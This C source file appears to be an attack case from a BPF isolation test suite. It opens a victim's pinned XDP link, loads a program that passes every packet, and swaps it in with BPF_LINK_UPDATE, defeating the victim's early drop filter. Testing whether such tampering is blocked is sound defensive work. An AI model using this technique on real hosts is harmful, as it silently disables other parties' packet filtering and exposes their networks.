// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Puts a program that lets everything pass into the victim's XDP link, by the pin of the link.
 * Success: a packet gets through.
 */
#include "bpf.h"

static void run(void)
{
	struct program program = { .type = BPF_PROG_TYPE_XDP, .attach_type = BPF_XDP };
	union bpf_attr attr = {};

	attr.link_update.link_fd = must("BPF_OBJ_GET", open_pin(OURS "/network/links/drop_early", 0));
	attr.link_update.new_prog_fd = must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_0, XDP_PASS), RETURN));
	must("BPF_LINK_UPDATE", bpf(BPF_LINK_UPDATE, &attr, sizeof(attr)));
}

ATTACK("puts another program into the victim's XDP link", .run = run);
